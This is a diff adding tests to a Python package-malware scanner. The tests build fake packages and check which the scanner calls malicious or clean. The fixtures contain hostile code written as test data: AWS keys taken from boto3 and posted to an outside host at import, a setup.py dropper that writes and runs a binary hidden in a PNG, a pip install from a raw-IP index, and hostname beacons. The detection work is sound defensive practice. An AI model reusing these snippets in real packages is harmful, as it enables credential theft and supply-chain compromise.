@@ -245,6 +245,15 @@ def test_shipped_executable_started_at_import_is_a_dropper() -> None:
     assert "fastjsonx/bin/helper" in finding.message and finding.evidence
 
 
+def test_a_shipped_name_without_its_folder_is_not_a_start() -> None:
+    """PyInstaller's build hook names its bootloader ``'run'`` (to check it exists) and starts the compiler:
+    a bare name that is also a common word matched the shipped ``bootloader/<platform>/run``. A nested
+    binary now needs its folder named in the file too."""
+    init = "import subprocess\nexe = 'helper'\nsubprocess.run(['make', exe], capture_output=True)\n"
+    result, top = verdict(_wheel_with_helper(init))
+    assert "package.runs-shipped-binary:high" not in top, top
+
+
 def test_shipped_executable_run_by_a_function_stays_clean() -> None:
     """A tool wrapper (ruff, the playwright driver) runs its binary when the user calls it."""
     init = ("import os, subprocess\nhere = os.path.dirname(__file__)\n\ndef run(*args):\n"
@@ -441,3 +450,137 @@ def test_miner_and_secret_scanner_in_python_literals() -> None:
     assert any(s.kind == "exec.shell-downloader" and s.detail.get("pattern") == "crypto-miner" for s in facts.signals)
     assert any(s.kind == "source.credential-file" and s.detail.get("store") == "secret-scanner"
                for s in facts.signals)
+
+
+def test_aws_keys_from_the_sdk_sent_at_import_are_exfiltration() -> None:
+    """fabrice (2024) took the AWS keys from a boto3 session, not from a file or variable: get_credentials()
+    is a secret source where the file imports an AWS SDK. A signer that uses the keys when called is
+    judged like an API token sent to its API (low), so it stays clean."""
+    code = ("import boto3, urllib.request, json\n"
+            "c = boto3.Session().get_credentials().get_frozen_credentials()\n"
+            "urllib.request.urlopen('https://telemetry-sync.io/v', data=json.dumps([c.access_key, c.secret_key])"
+            ".encode())\n")
+    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": code}))
+    assert result == "malicious" and "package.exfiltration:critical" in findings, findings
+    signer = ("import boto3, requests\n\ndef call(url, body):\n    s = boto3.Session()\n"
+              "    creds = s.get_credentials()\n    auth = (creds.access_key, creds.secret_key)\n"
+              "    return requests.post(url, data=body, auth=auth)\n")
+    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": signer}))
+    assert result == "clean", findings
+
+
+def test_file_written_and_started_at_install_is_a_dropper() -> None:
+    """requests-darwin-lite (2024) carved a binary out of an image it shipped, wrote it and ran it from
+    setup.py: no download, so neither download-and-run shape matched. A setup.py that writes a header and
+    runs the compiler on another file stays clean."""
+    setup = ("import os, subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
+             "class I(install):\n    def run(self):\n        d = open('docs/sidebar.png', 'rb').read()\n"
+             "        open('/tmp/.cache-x', 'wb').write(d[308:])\n        os.chmod('/tmp/.cache-x', 0o755)\n"
+             "        subprocess.Popen(['/tmp/.cache-x'])\n        install.run(self)\n"
+             "setup(name='helperlib', version='0.1', cmdclass={'install': I})\n")
+    png = b"\x89PNG\r\n\x1a\n" + b"\0" * 300 + b"\x7fELF\x02\x01\x01" + b"\0" * 200
+    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup, "docs/sidebar.png": png}))
+    assert result == "malicious" and "package.download-exec:critical" in findings, findings
+    build = ("import subprocess\nfrom setuptools import setup\n"
+             "open('src/config.h', 'w').write('#define HAVE_X 1\\n')\n"
+             "subprocess.check_call(['cc', '-c', 'src/x.c', '-o', 'build/x.o'])\n" + _SETUP)
+    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": build}))
+    assert "package.download-exec:critical" not in findings, findings
+
+
+def test_pip_pointed_at_a_raw_ip_index_at_install_is_a_downloader() -> None:
+    """setup.py runs pip with a package index on a bare IP: the command is built from sys.executable, so
+    no command pattern matched; the drop host on the same call was only a shady endpoint (high)."""
+    setup = ("import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', 'install', '--index-url', "
+             "'http://45.61.136.12/simple', 'helper-core'])\n" + _SETUP)
+    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup}))
+    assert result == "malicious" and "package.install-downloader:critical" in findings, findings
+
+
+def test_chat_urls_that_name_no_channel_are_not_drop_hosts() -> None:
+    """A Slack placeholder in a form field (prefect), the bare Discord and Telegram API bases a client adds
+    its token to (tqdm's integrations) and a Discord invite in a README template (huggingface-hub) were
+    webhook endpoints 'contacted on import'. A webhook, a bot method or a CDN file still is one."""
+    from chainwatch.packages import indicators as ind
+
+    for url in ("https://hooks.slack.com/XXX", "https://discord.com/api/v10", "https://api.telegram.org/bot",
+                "https://discord.com/invite/YKrxeNn", "https://discord.com/api/webhooks/<id>/<token>"):
+        assert ind.classify_url(url) is None, url
+    for url in ("https://discord.com/api/webhooks/123/abc", "https://api.telegram.org/bot{}/sendMessage",
+                "https://cdn.discordapp.com/attachments/1/2/x.exe", "https://hooks.slack.com/services/T0/B0/x1"):
+        assert ind.classify_url(url) is not None, url
+    code = ("API = 'https://api.telegram.org/bot'\nEXAMPLE = 'https://hooks.slack.com/XXX'\n"
+            "class Notifier:\n    url: str = 'https://discord.com/api/v10'\n")
+    assert verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": code}))[0] == "clean"
+
+
+def test_main_blocks_run_as_programs_not_on_import() -> None:
+    """A module's ``if __name__ == "__main__":`` block (and an ``elif __name__ == "__channelexec__":`` branch,
+    execnet's remote entry) runs when the file is run as a program; a socket server started only there is
+    not import-time code. When setup.py starts the module with ``python -m`` it does run, at install."""
+    server = ("import socket\n\ndef serve(port):\n    s = socket.socket()\n    s.bind(('', port))\n    s.listen(1)\n"
+              "    c, _ = s.accept()\n    exec(c.makefile().readline())\n\n"
+              "if __name__ == '__main__':\n    serve(8888)\nelif __name__ == '__channelexec__':\n    serve(0)\n")
+    facts = facts_of(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": "",
+                                                 "helperlib/server.py": server}))
+    assert {s.phase for s in facts.signals if s.file == "helperlib/server.py"} == {"runtime"}
+    beacon = ("import socket, requests\n\ndef main():\n    requests.post('https://x1.m.pipedream.net/p', "
+              "json={'h': socket.gethostname()})\n\nif __name__ == '__main__':\n    main()\n")
+    setup = ("import subprocess, sys\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
+             "NAME = 'helperlib'\nclass I(install):\n    def run(self):\n        install.run(self)\n"
+             "        subprocess.call([sys.executable, '-m', f'{NAME}.utils.analyzer'])\n"
+             "setup(name=NAME, version='0.1', cmdclass={'install': I})\n")
+    files = {"setup.py": setup, "helperlib/__init__.py": "", "helperlib/utils/analyzer.py": beacon}
+    result, findings = verdict(sdist("helperlib", "0.1", files))
+    assert result == "malicious" and "package.install-beacon:critical" in findings, findings
+    files["setup.py"] = _SETUP
+    assert verdict(sdist("helperlib", "0.1", files))[0] != "malicious"
+
+
+def test_in_tree_build_backend_runs_only_what_it_reaches() -> None:
+    """setuptools and poetry-core build themselves (``backend-path``): every file of theirs counted as install
+    code, so a vendored urlopen and a getuser() elsewhere made an install beacon. What pip runs is the
+    backend module and the code it reaches."""
+    pyproject = ('[build-system]\nrequires = []\nbuild-backend = "mybuild.api"\nbackend-path = ["src"]\n'
+                 '[project]\nname = "mybuild"\nversion = "1.0"\n')
+    api = "from mybuild import core\n\ndef build_wheel(d, settings=None, meta=None):\n    return core.make(d)\n"
+    core = "import os\n\ndef make(d):\n    return os.path.join(d, 'x.whl')\n"
+    vendored = ("import getpass, urllib.request\n\ndef fetch(u):\n    return urllib.request.urlopen(u).read()\n\n"
+                "def cache_name():\n    return getpass.getuser() + '.cache'\n")
+    files = {"pyproject.toml": pyproject, "src/mybuild/__init__.py": "", "src/mybuild/api.py": api,
+             "src/mybuild/core.py": core, "src/mybuild/_vendor/fetcher.py": vendored}
+    result, findings = verdict(sdist("mybuild", "1.0", files))
+    assert result == "clean", findings
+    files["src/mybuild/core.py"] = "import getpass, urllib.request\n\ndef make(d):\n" \
+        "    return urllib.request.urlopen('https://x.example.net/?u=' + getpass.getuser()).read()\n"
+    assert "package.install-beacon:critical" in verdict(sdist("mybuild", "1.0", files))[1]
+
+
+def test_setup_py_reading_its_version_line_and_an_sdist_with_a_package_json() -> None:
+    """influxdb-client execs the VERSION line of version.py read through ``with open(...) as f``; daff ships
+    a package.json for its JS port beside PKG-INFO and was judged as an npm package (a typosquat of npm's
+    'diff')."""
+    setup = ("from setuptools import setup\nmeta = {}\nwith open('helperlib/version.py') as f:\n"
+             "    exec('\\n'.join(line for line in f if line.startswith('VERSION')), meta)\n"
+             "setup(name='helperlib', version=meta['VERSION'])\n")
+    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup,
+                                                          "helperlib/version.py": "VERSION = '0.1'\n"}))
+    assert result == "clean", findings
+    data = sdist("daff", "1.4.2", {"setup.py": _SETUP, "daff.py": "def diff(a, b):\n    return []\n",
+                                   "package.json": '{"name": "daff", "version": "1.4.2"}', "daff.js": "var x=1;\n"})
+    assert facts_of(data).ecosystem == "pypi-sdist" and verdict(data)[0] == "clean"
+
+
+def test_pages_opened_in_a_browser_and_commands_in_help_text() -> None:
+    """webbrowser.open(url) after a health check (langgraph-api) is not fetch-and-run; ``curl ... | bash`` in a
+    help template (huggingface-hub) is an instruction; a CGI server passes request data in the environment
+    of os.execve, not as the command (future)."""
+    browser = ("import urllib.request, webbrowser\n\ndef _open(url):\n    urllib.request.urlopen(url + '/ok')\n"
+               "    webbrowser.open(url)\n\n_open('http://127.0.0.1:2024')\n")
+    template = ('HELP = f"""\n# Install\n\nRun the installer. It sets up the CLI.\n\n```\n'
+                'curl -LsSf https://hf.co/cli/install.sh | bash\n```\n\nThen log in. Done.\n"""\n')
+    cgi = ("import os, base64\n\ndef run_cgi(script, auth, query):\n    env = dict(os.environ)\n"
+           "    env['REMOTE_USER'] = base64.decodebytes(auth).decode()\n    os.execve(script, [script, query], env)\n")
+    for code in (browser, template, cgi):
+        result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": code}))
+        assert result == "clean", (code, findings)
